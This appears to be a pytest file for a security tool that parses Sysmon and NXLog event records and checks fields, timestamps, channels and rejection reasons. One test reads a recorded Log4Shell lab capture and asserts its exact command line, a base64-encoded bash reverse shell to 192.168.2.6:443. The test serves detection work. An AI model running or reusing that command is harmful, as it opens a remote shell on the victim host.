import json

import pytest

from eguard.events.parsers import read_events
from eguard.events.parsers.sysmon import source_of

RECORD = {
    "Channel": "Microsoft-Windows-Sysmon/Operational",
    "EventID": 13,
    "Hostname": "WORKSTATION5.Theshire.local",
    "@timestamp": "2020-08-06T07:20:08.896Z",
    "SourceName": "Microsoft-Windows-Sysmon",
    "Image": "C:\\Windows\\System32\\svchost.exe",
    "ProcessId": "912",
    "TargetObject": "HKLM\\X",
    "Message": "Registry value set:\r\nRuleName: -\r\nEventType: SetValue\r\n",
}
NXLOG = {
    "SourceModuleType": "im_msvistalog",
    "ProcessID": 3148,
    "EventType": "INFO",
    "AccountName": "SYSTEM",
    "Domain": "NT AUTHORITY",
    "port": 60122,
    "tags": ["mordorDataset"],
    "Keywords": -9223372036854775808,
}


def one(parse, **changes):
    row = {name: value for name, value in (RECORD | changes).items() if value is not None}
    events, report = parse(json.dumps(row) + "\n", "sysmon", group="capture")
    assert dict(report.rejected) == {}
    return events[0]


def test_a_record_keeps_its_own_fields_only(parse):
    event = one(parse, **NXLOG)
    assert event.fields == {
        "Image": "C:\\Windows\\System32\\svchost.exe",
        "ProcessId": "912",
        "TargetObject": "HKLM\\X",
        "EventType": "SetValue",
        "EventID": "13",
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Provider_Name": "Microsoft-Windows-Sysmon",
        "Computer": "workstation5.theshire.local",
    }
    assert (event.host_id, event.group, event.pid) == ("workstation5.theshire.local", "capture", 912)
    assert event.time_unix == 1596698408.896
    assert event.event_bytes == len("C:\\Windows\\System32\\svchost.exe912HKLM\\XSetValue")


def test_the_event_type_that_a_shipper_overwrote_comes_back(parse):
    created = "Registry object added or deleted:\r\nEventType: CreateKey\r\n"
    assert one(parse, EventID=12, EventType="INFO", Message=created).fields["EventType"] == "CreateKey"
    assert one(parse, EventID=18, EventType="INFO", Message=None).fields["EventType"] == "ConnectPipe"
    assert "EventType" not in one(parse, EventID=12, Message=None).fields
    assert one(parse, EventID=12, EventType="DeleteKey").fields["EventType"] == "DeleteKey"


def test_the_process_id_of_the_record_is_text_and_that_of_the_log_is_a_number(parse):
    assert one(parse, **NXLOG | {"ProcessId": None}).pid == 0
    assert one(parse, ProcessId=None, ProcessID="3428").pid == 3428


def test_the_logs_own_time_goes_first_and_utc_time_is_not_used(parse):
    stamps = {"@timestamp": None, "TimeCreated": "2020-10-19 12:28:44.333", "UtcTime": "2020-10-19 04:28:44.333"}
    assert one(parse, **stamps).time_unix == 1603110524.333


def test_channels_ignore_case_and_others_are_passed_over(parse):
    rows = [RECORD | {"Channel": name} for name in ("security", "SECURITY", "System", "Windows PowerShell")]
    events, report = parse("\n".join(json.dumps(row) for row in rows), "sysmon")
    assert [event.source for event in events] == ["security", "security"]
    assert dict(report.skipped) == {"other_channel": 2}
    assert source_of("Linux-Sysmon/Operational") == "linux-sysmon"


@pytest.mark.parametrize(
    ("changes", "reason"),
    [
        ({"Channel": None}, "no_channel"),
        ({"Channel": 5}, "no_channel"),
        ({"Hostname": None}, "no_host"),
        ({"Hostname": ["a"]}, "no_host"),
        ({"EventID": None}, "missing_field"),
        ({"EventID": "x"}, "bad_number"),
        ({"EventID": [1]}, "bad_number"),
        ({"EventID": 70_000}, "bad_number"),
        ({"@timestamp": "yesterday"}, "bad_time"),
        ({"@timestamp": 5}, "bad_time"),
        ({"ProcessId": "-1"}, "bad_number"),
        ({"SyslogMessage": "<Event><System>"}, "bad_xml"),
    ],
)
def test_bad_records_are_counted_by_reason(parse, changes, reason):
    bad = {name: value for name, value in (RECORD | changes).items() if value is not None}
    events, report = parse(f"{json.dumps(bad)}\n{json.dumps(RECORD)}\n", "sysmon")
    assert len(events) == 1
    assert dict(report.rejected) == {reason: 1}


def test_sysmon_for_linux_inside_syslog(raw):
    path = raw / "endpoint-events" / "raw" / "syslog_sysmon_log4shell_cve2021_44228_jndi_reference.zip"
    events = list(read_events(path, group="log4shell"))
    shell = next(event for event in events if event.event_type == "exec" and "base64" in event.command_line)
    assert (shell.source, shell.host_id, shell.comm, shell.parent_comm) == ("linux-sysmon", "ubuntu5", "bash", "java")
    assert (shell.pid, shell.parent_pid, shell.user, shell.is_elevated) == (17790, 1340, "tomcat", False)
    assert shell.command_line == (
        "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}"
    )
    assert shell.process_guid == "94325212-fc0d-627b-4874-61f901560000"
    assert shell.fields["Provider_Name"] == "Linux-Sysmon"
    assert len(events) == 93


def test_other_syslog_is_passed_over(parse):
    rows = [
        {"SyslogMessage": "sshd[1]: accepted"},
        {"SyslogMessage": "<Event><System><Channel>X</Channel></System></Event>"},
    ]
    _, report = parse("\n".join(map(json.dumps, rows)), "sysmon")
    assert dict(report.skipped) == {"other_syslog": 1, "other_channel": 1}
